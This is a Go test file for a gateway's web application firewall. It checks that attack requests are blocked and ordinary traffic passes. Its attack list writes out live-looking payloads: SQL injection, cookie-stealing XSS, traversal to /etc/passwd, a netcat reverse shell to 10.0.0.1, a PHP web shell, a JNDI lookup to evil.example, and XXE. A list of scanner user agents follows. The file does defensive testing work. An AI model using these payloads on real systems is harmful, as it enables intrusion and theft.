package filter

import (
	"bytes"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/sluice-gateway/sluice/routing/policy"
)

func firewallOf(block bool) *policy.Firewall {
	return &policy.Firewall{Block: block, CoreRules: true, Paranoia: 1, Threshold: 5, BodyBytes: 16 << 10}
}

// sample is a request.
type sample struct{ name, method, target, body, media string }

func get(name, path string, query ...string) sample {
	if len(query) > 0 {
		values := url.Values{}
		for i := 0; i < len(query); i += 2 {
			values.Add(query[i], query[i+1])
		}
		path += "?" + values.Encode()
	}
	return sample{name: name, method: "GET", target: path}
}

func post(name, media, body string) sample {
	return sample{name, "POST", "/", body, media}
}

const form = "application/x-www-form-urlencoded"

// attacks are the ones that every such firewall is tried with.
var attacks = []sample{
	get("SQL injection, always true", "/item", "id", "1' OR '1'='1"),
	get("SQL injection, union", "/item", "id", "1 UNION SELECT username, password FROM users--"),
	get("SQL injection, stacked", "/item", "id", "1; DROP TABLE users"),
	get("SQL injection, time", "/item", "id", "1 AND SLEEP(5)"),
	get("SQL injection, comments", "/item", "id", "1'/**/OR/**/1=1#"),
	post("SQL injection in a form", form, "user=admin%27--+&password=x%27+or+1%3D1--"),
	post("SQL injection in JSON", "application/json", `{"user":{"name":"x' OR 1=1--"}}`),
	get("script", "/search", "q", "<script>alert(1)</script>"),
	get("script by event", "/search", "q", `"><img src=x onerror=alert(1)>`),
	get("script by URL", "/search", "q", `<a href="javascript:alert(1)">`),
	post("script in a form", form, "comment=%3Csvg%2Fonload%3Dalert%281%29%3E"),
	post("script in JSON", "application/json", `{"c":"<script>document.location='http://x/'+document.cookie</script>"}`),
	{name: "traversal in the path", method: "GET", target: "/static/%252e%252e%252f%252e%252e%252fetc%252fpasswd"},
	get("traversal", "/download", "file", "../../../../etc/passwd"),
	get("traversal of Windows", "/download", "file", `..\..\..\windows\win.ini`),
	get("traversal, encoded twice", "/download", "file", "%2e%2e%2f%2e%2e%2fetc%2fshadow"),
	get("a file of the system", "/download", "file", "/proc/self/environ"),
	get("a file of secrets", "/.env"),
	get("a repository", "/.git/config"),
	get("remote file", "/page", "include", "http://evil.example/shell.txt?"),
	get("command", "/ping", "host", "127.0.0.1; cat /etc/passwd"),
	get("command in backticks", "/ping", "host", "`id`;$(whoami)"),
	post("command in a form", form, "host=%7C+nc+-e+%2Fbin%2Fsh+10.0.0.1+4444"),
	get("PHP", "/index.php", "x", "<?php system($_GET['c']); ?>"),
	get("Java, a lookup", "/", "x", "${jndi:ldap://evil.example/a}"),
	get("JavaScript of a server", "/", "x", "require('child_process').exec('id')"),
	post("XML", "application/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;/etc/passwd</r>`),
	{name: "a method that is none", method: "TRACK", target: "/"},
}

// scanners are the names that tools for attacks go by.
var scanners = []string{"sqlmap/1.7#stable (https://sqlmap.org)", "Nikto/2.5.0", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3", "w3af.org"}

// ordinary are requests that a shop, an API and a browser send all day.
var ordinary = []sample{
	get("a page", "/"),
	get("a file", "/static/css/main.4f3a.css"),
	get("a picture", "/img/logo@2x.png"),
	get("a search", "/search", "q", "blue shoes size 42"),
	get("a name with an apostrophe", "/search", "q", "O'Brien"),
	get("a question", "/search", "q", "how do I select a table for 4?"),
	get("another language", "/suche", "q", "Käse & Wein für 5 €"),
	get("Japanese", "/search", "q", "東京のホテル"),
	get("a list", "/items", "page", "2", "sort", "-price", "filter[color]", "red", "ids", "1,2,3"),
	get("a date and a time", "/events", "from", "2026-11-28T16:00:00+01:00", "to", "2026-12-01"),
	get("a mail address", "/invite", "to", "jane.doe+news@example.com"),
	get("a token", "/confirm", "token", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"),
	get("coordinates", "/map", "at", "52.5200,13.4050", "z", "12"),
	get("an identifier", "/users/8f14e45f-ceea-467f-a0e6-1d3c9b2d7a11/orders/42"),
	post("a login", form, "user=jane&password=correct+horse+battery+staple%21&remember=on"),
	post("an address", form, "name=J%C3%BCrgen+M%C3%BCller&street=Hauptstra%C3%9Fe+5&city=K%C3%B6ln&zip=50667"),
	post("a comment", form, "comment=I+liked+it+%3A-%29+5%2F5%2C+would+buy+again%21"),
	post("an order", "application/json", `{"items":[{"sku":"A-1","qty":2,"price":19.99}],"note":"Please ring twice","gift":false}`),
	post("a query", "application/json", `{"query":"query Items($n: Int) { items(first: $n) { id name price } }","variables":{"n":10}}`),
	post("numbers", "application/json", `{"values":[1,2.5,-3,1e6,null,true],"at":1764345600}`),
	post("an empty object", "application/json", `{}`),
	post("XML", "application/xml", `<?xml version="1.0" encoding="UTF-8"?><order id="5"><item sku="A">2</item></order>`),
	post("text", "text/plain", "a short note"),
	post("bytes", "application/octet-stream", "0123456789"),
	{"a change", "PUT", "/items/5", `{"name":"Blue shoe"}`, "application/json"},
	{"a part of a change", "PATCH", "/items/5", `{"price":18}`, "application/merge-patch+json"},
	{"a removal", "DELETE", "/items/5", "", ""},
	{"options", "OPTIONS", "/items", "", ""},
	{"a head", "HEAD", "/items", "", ""},
	{"nothing to send", "POST", "/logout", "", ""},
}

// send sends a request as a browser does.
func (g *gateway) send(by http.RoundTripper, s sample, fields ...string) (int, string) {
	g.t.Helper()
	req, err := http.NewRequest(s.method, g.base, strings.NewReader(s.body))
	if err != nil {
		g.t.Fatal(err)
	}
	if req.URL, err = url.Parse(g.base + s.target); err != nil {
		g.t.Fatalf("%s: %v", s.name, err)
	}
	req.Host = "shop.example"
	for name, value := range map[string]string{
		"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0", "Accept": "text/html,application/json;q=0.9,*/*;q=0.8",
		"Accept-Language": "en-US,en;q=0.5", "Cookie": "session=8f14e45fceea467fa0e61d3c9b2d7a11; theme=dark", "Referer": "https://shop.example/start?from=home",
	} {
		req.Header.Set(name, value)
	}
	if s.media != "" {
		req.Header.Set("Content-Type", s.media)
	}
	for i := 0; i < len(fields); i += 2 {
		req.Header.Set(fields[i], fields[i+1])
	}
	resp, err := by.RoundTrip(req)
	if err != nil {
		g.t.Fatalf("%s: %v", s.name, err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		g.t.Fatalf("%s: %v", s.name, err)
	}
	return resp.StatusCode, string(body)
}

// speakers are clients of both protocols.
func speakers(t *testing.T) map[string]http.RoundTripper {
	h2 := &http.Transport{Protocols: new(http.Protocols)}
	h2.Protocols.SetUnencryptedHTTP2(true)
	h1 := &http.Transport{}
	t.Cleanup(h2.CloseIdleConnections)
	t.Cleanup(h1.CloseIdleConnections)
	return map[string]http.RoundTripper{"HTTP/1.1": h1, "HTTP/2": h2}
}

// echoes is a Backend that counts requests and returns their bodies.
func echoes(asked *atomic.Int64) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		body, err := io.ReadAll(r.Body)
		if err != nil {
			panic(http.ErrAbortHandler)
		}
		_, _ = w.Write(body)
	}
}

// TestFirewall: what is known as an attack is refused, over both protocols, and never reaches the Backend; what is ordinary
// passes as it is.
func TestFirewall(t *testing.T) {
	var asked atomic.Int64
	g := newGateway(t, with(firewallOf(true)), echoes(&asked))
	for protocol, by := range speakers(t) {
		for _, a := range attacks {
			if status, body := g.send(by, a); status != 403 || !strings.Contains(body, "looks like an attack") {
				t.Errorf("%s: %s: got %d %.80q, want 403", protocol, a.name, status, body)
			}
		}
		for _, agent := range scanners {
			if status, _ := g.send(by, get(agent, "/"), "User-Agent", agent); status != 403 {
				t.Errorf("%s: %s: got %d, want 403", protocol, agent, status)
			}
		}
		if n := asked.Swap(0); n != 0 {
			t.Errorf("%s: the Backend was asked %d times", protocol, n)
		}
		for _, o := range ordinary {
			want := o.body
			if o.method == "HEAD" {
				want = ""
			}
			if status, body := g.send(by, o); status != 200 || body != want {
				t.Errorf("%s: %s: got %d %.80q, want %q", protocol, o.name, status, body, want)
			}
		}
		if n := asked.Swap(0); n != int64(len(ordinary)) {
			t.Errorf("%s: the Backend was asked %d times of %d", protocol, n, len(ordinary))
		}
	}
}

// TestFirewallDetects: in detection everything passes, unchanged.
func TestFirewallDetects(t *testing.T) {
	var asked atomic.Int64
	g := newGateway(t, with(firewallOf(false)), echoes(&asked))
	for _, s := range append(attacks[:len(attacks):len(attacks)], ordinary...) {
		if status, body := g.send(http.DefaultTransport, s); status != 200 || body != s.body && s.method != "HEAD" {
			t.Errorf("%s: got %d %.80q", s.name, status, body)
		}
	}
	if n := asked.Load(); n != int64(len(attacks)+len(ordinary)) {
		t.Errorf("the Backend was asked %d times", n)
	}
}

// TestFirewallSettings: threshold, exclusions, paranoia and the rule set are each Policy's own, although all share the rules.
func TestFirewallSettings(t *testing.T) {
	injection := get("SQL injection", "/", "id", "1' OR '1'='1")
	strict := get("what only a strict level minds", "/", "q", "a' b=c--x")
	for name, row := range map[string]struct {
		change func(f *policy.Firewall)
		of     sample
		want   int
	}{
		"as it is":                {func(*policy.Firewall) {}, injection, 403},
		"a high threshold":        {func(f *policy.Firewall) { f.Threshold = 1000 }, injection, 200},
		"the rules excluded":      {func(f *policy.Firewall) { f.Exclude = []policy.RuleRange{{First: 942000, Last: 942999}} }, injection, 200},
		"other rules excluded":    {func(f *policy.Firewall) { f.Exclude = []policy.RuleRange{{First: 941000, Last: 941999}} }, injection, 403},
		"without core rules":      {func(f *policy.Firewall) { f.CoreRules = false }, injection, 200},
		"not strict":              {func(*policy.Firewall) {}, strict, 200},
		"strict":                  {func(f *policy.Firewall) { f.Paranoia = 4 }, strict, 403},
		"strict, high threshold":  {func(f *policy.Firewall) { f.Paranoia, f.Threshold = 4, 1000 }, strict, 200},
		"no JSON, and core rules": {func(*policy.Firewall) {}, post("", "application/json", `{"a":`), 400},
		"no JSON, base rules":     {func(f *policy.Firewall) { f.CoreRules = false }, post("", "application/json", `{"a":`), 400},
	} {
		f := firewallOf(true)
		row.change(f)
		g := newGateway(t, with(f), echoes(new(atomic.Int64)))
		if status, body := g.send(http.DefaultTransport, row.of); status != row.want {
			t.Errorf("%s: got %d %.80q, want %d", name, status, body, row.want)
		}
	}
}

// TestFirewallBodies: an attack is found wherever in the body it is; a body that is too long to be looked at is refused, or
// passes where nothing is refused.
func TestFirewallBodies(t *testing.T) {
	const limit = 16 << 10
	block, detect := newGateway(t, with(firewallOf(true)), echoes(new(atomic.Int64))), newGateway(t, with(firewallOf(false)), echoes(new(atomic.Int64)))
	attack := "&q=" + url.QueryEscape("1' UNION SELECT password FROM users--")
	filler := func(n int) string { return "a=" + strings.Repeat("x", n-2) }
	var file bytes.Buffer
	m := multipart.NewWriter(&file)
	part, err := m.CreateFormField("comment")
	if err != nil {
		t.Fatal(err)
	}
	_, _ = io.WriteString(part, "<script>alert(1)</script>")
	m.Close()
	for _, row := range []struct {
		name, media, body string
		want              int
	}{
		{"up to the limit", form, filler(limit), 200},
		{"one more", form, filler(limit + 1), 413},
		{"much more", form, filler(200 << 10), 413},
		{"at the end", form, filler(limit-len(attack)) + attack, 403},
		{"behind the limit", form, filler(limit) + attack, 413},
		{"in a part", m.FormDataContentType(), file.String(), 403},
		{"of no known type", "application/octet-stream", "1' UNION SELECT password FROM users--", 403},
		{"of none", "", "q=<script>alert(1)</script>", 403},
		{"of a type that is not", "image/png", "q=<script>alert(1)</script>", 403},
	} {
		for protocol, by := range speakers(t) {
			s := post(row.name, row.media, row.body)
			if status, body := block.send(by, s); status != row.want {
				t.Errorf("%s: %s: got %d %.80q, want %d", protocol, row.name, status, body, row.want)
			}
			if status, body := detect.send(by, s); status != 200 || body != row.body {
				t.Errorf("%s: %s: detection gives %d and %d bytes", protocol, row.name, status, len(body))
			}
		}
	}
	// Where the length is not told before.
	req, err := http.NewRequest("POST", block.base, io.MultiReader(strings.NewReader(filler(limit)), strings.NewReader(attack)))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", form)
	resp, err := http.DefaultTransport.RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 413 {
		t.Errorf("in chunks: got %d, want 413", resp.StatusCode)
	}
}

// TestFirewallTogether: a redirect is not looked at, an address list comes behind, and CORS fields are on what is refused.
func TestFirewallTogether(t *testing.T) {
	g := newGateway(t, with(firewallOf(true), &policy.CORS{Origins: []string{"https://a.example"}, Methods: "GET", MaxAge: 60}, &policy.Rewrite{Target: "/inside"}),
		func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, r.RequestURI) })
	const attack = "/x?q=%3Cscript%3Ealert(1)%3C/script%3E"
	agent := []string{"User-Agent", "test", "Accept", "*/*", "Origin", "https://a.example"}
	for _, method := range []string{"GET", "HEAD"} {
		resp, _ := g.ask(method, attack, agent...)
		if resp.StatusCode != 403 || resp.Header.Get("Access-Control-Allow-Origin") != "https://a.example" {
			t.Errorf("%s: got %d, %v", method, resp.StatusCode, resp.Header)
		}
	}
	if resp, body := g.ask("GET", "/x?q=y", agent...); resp.StatusCode != 200 || body != "/inside?q=y" {
		t.Errorf("got %d %q", resp.StatusCode, body)
	}
}
